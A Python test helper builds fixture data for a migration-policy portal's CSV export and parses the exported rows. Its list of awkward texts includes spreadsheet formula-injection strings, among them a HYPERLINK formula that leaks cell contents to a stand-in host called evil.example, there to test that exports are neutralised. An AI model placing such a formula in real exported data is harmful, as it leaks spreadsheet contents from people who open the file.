"""What the export tests share: real rows, and the rows of the list read from the list page itself."""

import csv
import io

from gfmd_portal.publishing import Status
from recommendations.models import Recommendation
from roundtables.models import Actor, Framework, Organisation, RoundtableRole

from . import factories

# Texts a spreadsheet would run as formulas, or that need quoting, or both.
AWKWARD_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "+1 234 (a telephone number or a formula)",
    "-2+3",
    "@SUM(1, 2)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "\nstarts with a line feed",
    "'already quoted, with a comma",
    'says "hello", twice: "hello"',
    "line one\nline two\r\nline three",
    "Ünïcödé: ça va, 移民, مهاجر — fine",
]


def build(extra_per_roundtable=0):
    """Two summits, four roundtables (one a draft), themes whose names sort unlike their slugs,
    co-chairs that are countries and organisations, ~60 recommendations (some drafts)."""
    s2016 = factories.session(factories.summit(2016), 3)
    s2018 = factories.session(factories.summit(2018), 1)
    rt31 = factories.roundtable("3.1", s2016, title="=Crises: conflict, climate")
    rt32 = factories.roundtable("3.2", s2016, title='Principles, "institutions" and processes')
    rt11 = factories.roundtable("1.1", s2018, title="Labour mobility")
    draft_rt = factories.roundtable("3.3", s2016, status=Status.DRAFT, title="Not yet published")
    factories.country("PHL", "Philippines")
    factories.country("ETH", "Ethiopia")
    factories.country("MEX", "Mexico")
    factories.country("SWE", "Sweden")
    factories.country("CAN", "Canada")
    factories.country("MAR", "Morocco")
    iom = Organisation.objects.create(slug="iom", name="International Organization for Migration", acronym="IOM")
    civil = Organisation.objects.create(slug="civil", name="-Civil society, coordinated")
    for rt, chairs, rapporteur in ((rt31, ["PHL", "ETH"], "MAR"), (rt32, ["MEX", "SWE"], "CAN"), (rt11, ["PHL"], None)):
        for order, iso3 in enumerate(chairs, start=1):
            RoundtableRole.objects.create(
                roundtable=rt, country_id=iso3, role=RoundtableRole.Role.CO_CHAIR, order=order
            )
        if rapporteur:
            RoundtableRole.objects.create(roundtable=rt, country_id=rapporteur, role=RoundtableRole.Role.RAPPORTEUR)
    RoundtableRole.objects.create(roundtable=rt11, organisation=iom, role=RoundtableRole.Role.CO_CHAIR, order=2)
    RoundtableRole.objects.create(roundtable=rt11, organisation=civil, role=RoundtableRole.Role.RAPPORTEUR)
    RoundtableRole.objects.create(roundtable=draft_rt, country_id="PHL", role=RoundtableRole.Role.CO_CHAIR)

    # Names sort in another order than slugs, so the order of a list cell is tested.
    labour = factories.theme("labour", "Zeta: labour mobility")
    climate = factories.theme("climate", "Alpha: climate and disasters")
    trafficking = factories.theme("trafficking", "Middle: trafficking and smuggling")
    sdgs = Framework.objects.create(slug="sdgs", name="Sustainable Development Goals", short_name="SDGs", kind="agenda")
    gcm = Framework.objects.create(slug="gcm", name="Global Compact for Migration", short_name="GCM", kind="compact")
    states = Actor.objects.create(slug="states", name="States")
    iom_actor = Actor.objects.create(slug="iom", name="IOM")

    texts = iter(AWKWARD_TEXTS * 10)
    plan = [(rt31, 18 + extra_per_roundtable), (rt32, 24 + extra_per_roundtable), (rt11, 12 + extra_per_roundtable)]
    made = Recommendation.objects.bulk_create(
        Recommendation(
            roundtable=rt,
            number=n,
            text=next(texts) if n % 3 == 0 else f"Recommendation {rt.code}/{n} on border governance" * (n % 2 + 1),
            source_excerpt="" if n % 4 == 0 else f"- verbatim, {n}",
            status=Status.DRAFT if n % 7 == 0 else Status.PUBLISHED,
        )
        for rt, count in plan
        for n in range(1, count + 1)
    )
    links = {"themes": [], "frameworks": [], "actors": []}
    for rec in made:
        n = rec.number
        for theme in (t for i, t in enumerate((labour, climate, trafficking)) if (n >> i) & 1):
            links["themes"].append(Recommendation.themes.through(recommendation=rec, theme=theme))
        for framework in [sdgs, gcm][: n % 3]:
            links["frameworks"].append(Recommendation.frameworks.through(recommendation=rec, framework=framework))
        for actor in [iom_actor] if n % 2 else [states, iom_actor]:
            links["actors"].append(Recommendation.actors.through(recommendation=rec, actor=actor))
    for relation, rows in links.items():
        getattr(Recommendation, relation).through.objects.bulk_create(rows)
    Recommendation.objects.bulk_create(
        Recommendation(roundtable=draft_rt, number=n, text=f"Draft roundtable {n}") for n in range(1, 4)
    )
    return made


def list_ids(client, params):
    """The ids the list page shows for `params`, all pages, in order, read page by page from the list view."""
    ids, page = [], 1
    while True:
        response = client.get("/en/recommendations/", {**params, "page": page})
        assert response.status_code == 200
        page_obj = response.context["page_obj"]
        ids += [rec.pk for rec in page_obj.object_list]
        if not page_obj.has_next():
            return ids
        page += 1


def content(response):
    return b"".join(response.streaming_content)


def csv_rows(response):
    """The CSV body parsed by Python's csv module (BOM removed)."""
    text = content(response).decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_ids(response):
    rows = csv_rows(response)
    return [int(row[0]) for row in rows[1:]]
